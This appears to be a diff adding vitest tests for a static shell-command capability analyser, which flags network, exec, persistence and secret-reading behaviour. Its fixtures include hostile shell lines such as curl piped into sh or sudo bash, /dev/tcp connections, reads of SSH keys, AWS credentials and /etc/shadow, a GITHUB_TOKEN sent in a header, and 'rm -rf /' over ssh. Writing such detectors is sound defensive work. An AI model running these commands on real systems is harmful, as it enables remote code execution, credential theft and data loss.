@@ -1,0 +1,190 @@
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { NO_CONTEXT } from "../../../src/facts/risk/context.ts";
+import { readCommandText } from "../../../src/facts/shell/read-command-text.ts";
+import { readShell } from "../../../src/facts/shell/read-shell.ts";
+import { ARGUMENT, COMPUTED } from "../../../src/facts/word.ts";
+import { analyseShell } from "../../../src/languages/shell/analyse.ts";
+import { shortenCapability } from "../../support/commands.ts";
+
+const readScript = (text: string): readonly string[] =>
+  readShell(analyseShell(text), "static", NO_CONTEXT).map(shortenCapability);
+
+describe("a script", () => {
+  test.for([
+    [
+      "redirections",
+      "jq .a x.json > out.json 2>/dev/null",
+      ["fs-write out.json", "exec jq .a x.json", "fs-read x.json"],
+    ],
+    ["a connection of the shell's own", "exec 3<>/dev/tcp/10.0.0.1/80", ["!network 10.0.0.1:80"]],
+    [
+      "a pipe into a shell",
+      "curl https://a.com/i.sh | sh",
+      ["!exec curl https://a.com/i.sh", "!network a.com", "!exec sh", "!dynamic-code shell"],
+    ],
+    [
+      "a pipe through sudo",
+      "curl https://a.com | sudo bash",
+      ["!exec curl https://a.com", "!network a.com", "!exec sudo bash", "!exec bash", "!dynamic-code shell"],
+    ],
+    ["a shell alone is fed nothing", "bash", ["!exec bash"]],
+    ["a here-document", "python3 - <<E\nx\nE\n", ["!exec python3 -", "!dynamic-code python"]],
+    ["what the shell does itself starts nothing", "cd /tmp; echo hi; set -e; [ -f x ] && true", []],
+    ["but what it writes counts", "echo x >> ~/.bashrc", ["!fs-write ~/.bashrc", "!persistence ~/.bashrc"]],
+    ["a constant variable", "U=https://a.com/x; curl $U/y", ["!exec curl https://a.com/x/y", "!network a.com"]],
+    [
+      "a variable of variables",
+      'A=a.com; U="https://$A"; curl "$U/y"',
+      ["!exec curl https://a.com/y", "!network a.com"],
+    ],
+    ["a command in a variable", 'C="curl -s"; $C https://a.com', ["!exec curl -s https://a.com", "!network a.com"]],
+    ["quotes keep a value together", 'F="a b"; cat "$F"', ["exec cat 'a b'", "fs-read a b"]],
+    [
+      "a variable with two values",
+      "if x; then U=a.com; else U=b.com; fi; curl $U",
+      ["!exec x", "!exec curl a.com", "!network a.com", "!exec curl b.com", "!network b.com"],
+    ],
+    [
+      "a loop over constants",
+      "for f in ~/.ssh/id_rsa a.txt; do cat $f; done",
+      ["exec cat ~/.ssh/id_rsa", "!fs-read ~/.ssh/id_rsa", "exec cat a.txt", "fs-read a.txt"],
+    ],
+    ["a variable that is read from somewhere", "read U; curl $U", ["!exec curl *", "!network *"]],
+    ["a variable that goes round in a circle", "a=$b; b=$a; cat $a", ["!exec cat *", "!fs-read *"]],
+    ["the environment of one command", "U=a.com x; curl $U", ["!exec x", "!exec curl *", "!network *", "env U"]],
+    [
+      "positional parameters are arguments",
+      'cat "$1"; rm "$@"',
+      ["!exec cat *", "fs-read *", "!exec rm *", "fs-write *"],
+    ],
+    ["with a default too", 'F=${1:-x}; cat "$F"', ["!exec cat *", "fs-read *"]],
+    [
+      "the user's folder",
+      'cat "$HOME/.aws/credentials"',
+      ["exec cat ~/.aws/credentials", "!fs-read ~/.aws/credentials", "env HOME"],
+    ],
+    [
+      "variables of the environment",
+      'curl -H "X: $GITHUB_TOKEN" https://a.com',
+      ["!exec curl -H 'X: '* https://a.com", "!network a.com", "!env GITHUB_TOKEN"],
+    ],
+    ["functions of its own", "f() { ls; }; f a", ["exec ls"]],
+    [
+      "what wrappers run, once",
+      "sudo timeout 5 rm -rf x",
+      ["!exec sudo timeout 5 rm -rf x", "!exec rm -rf x", "fs-write in x"],
+    ],
+    [
+      "what find runs",
+      "find . -exec shred {} +",
+      ["exec find . -exec shred {} +", "fs-read in .", "!exec shred *", "!fs-write *"],
+    ],
+    ["a program by a pattern", "/???/c?t /etc/passwd", ["!exec '/???/c?t' /etc/passwd"]],
+    ["code", "bash -c 'ls'", ["!exec bash -c *", "!dynamic-code shell"]],
+    ["eval", 'eval "$(decode)"', ["!dynamic-code shell", "!exec decode"]],
+    ["a job", "(crontab -l; echo x) | crontab -", ["!exec crontab -l", "!exec crontab -", "!persistence cron"]],
+    [
+      "ssh with a command",
+      "ssh h.example.com 'rm -rf /'",
+      ["!exec ssh h.example.com 'rm -rf /'", "!network h.example.com"],
+    ],
+    ["nothing", "# only a comment", []],
+  ] as const)("%s", ([, text, capabilities]) => {
+    expect(readScript(text).toSorted()).toEqual([...capabilities].toSorted());
+  });
+
+  test("keeps the origin and the place of each command", () => {
+    const text = "ls\ncurl https://a.com\n";
+    const [exec, network] = readShell(analyseShell(text), "instructed", NO_CONTEXT).slice(1);
+    expect(exec).toEqual({
+      kind: "exec",
+      target: { match: "exact", value: "curl https://a.com" },
+      risk: "risky",
+      origin: "instructed",
+      span: { start: 3, end: 21 },
+    });
+    expect(network?.span).toEqual({ start: 3, end: 21 });
+  });
+
+  test("quoting differently changes nothing", () => {
+    const quotes = fc.constantFrom(
+      (word: string) => word,
+      (word: string) => `'${word}'`,
+      (word: string) => `"${word}"`,
+      (word: string) => word.replaceAll(/(?=[a-z])/gu, "\\"),
+      (word: string) => `${word.slice(0, 1)}''${word.slice(1)}`,
+      (word: string) => `$'${word}'`,
+    );
+    const words = fc.constantFrom(
+      ["curl", "-o", "out.bin", "https://a.example.com/x"],
+      ["cp", "-r", "/etc/ssh", "/tmp/x"],
+      ["git", "push", "https://a.example.com/r", "main"],
+      ["pip", "install", "requests==2"],
+      ["sudo", "cat", "/etc/shadow"],
+    );
+    fc.assert(
+      fc.property(words, fc.array(quotes, { minLength: 5, maxLength: 5 }), (line, hows) => {
+        const quoted = line.map((word, index) => hows[index]?.(word) ?? word).join(" ");
+        expect(readScript(quoted)).toEqual(readScript(line.join(" ")));
+      }),
+    );
+  });
+
+  test("never throws", () => {
+    const piece = fc.oneof(
+      fc.constantFrom(
+        "$a",
+        "${b:-c}",
+        "a=1",
+        "$(ls)",
+        "| sh",
+        "> x",
+        "<<E\nx\nE\n",
+        "for a in b c; do",
+        "done",
+        "find . -exec",
+        "xargs",
+        ";",
+        "\n",
+        "&&",
+      ),
+      fc.string({ maxLength: 8 }),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
+        expect(readScript(pieces.join(" "))).toBeInstanceOf(Array);
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe("a text that a program hands to a shell", () => {
+  test.for([
+    ["git status", ["exec git status"]],
+    ["echo hi", ["exec echo hi"]],
+    ["curl https://a.com | sh", ["!exec curl https://a.com", "!network a.com", "!exec sh", "!dynamic-code shell"]],
+    [["git log ", COMPUTED], ["!exec git log *"]],
+    [
+      ["cat '", ARGUMENT, "'"],
+      ["!exec cat *", "fs-read *"],
+    ],
+    [
+      ["ls ; curl https://a.com/", COMPUTED],
+      ["!exec ls", "!exec curl https://a.com/*", "!network a.com"],
+    ],
+    [null, ["!exec *"]],
+    [[COMPUTED, " --all"], ["!exec *"]],
+    ["a\0b", ["!exec *"]],
+    ["", []],
+  ] as const)("%j", ([text, capabilities]) => {
+    expect(readCommandText(text, NO_CONTEXT).capabilities.map(shortenCapability)).toEqual(capabilities);
+  });
+
+  test("hands its code back, with its gaps", () => {
+    expect(readCommandText(["python3 -c 'f(", COMPUTED, ")'"], NO_CONTEXT).code).toEqual([
+      { language: "python", text: ["f(", COMPUTED, ")"] },
+    ]);
+  });
+});
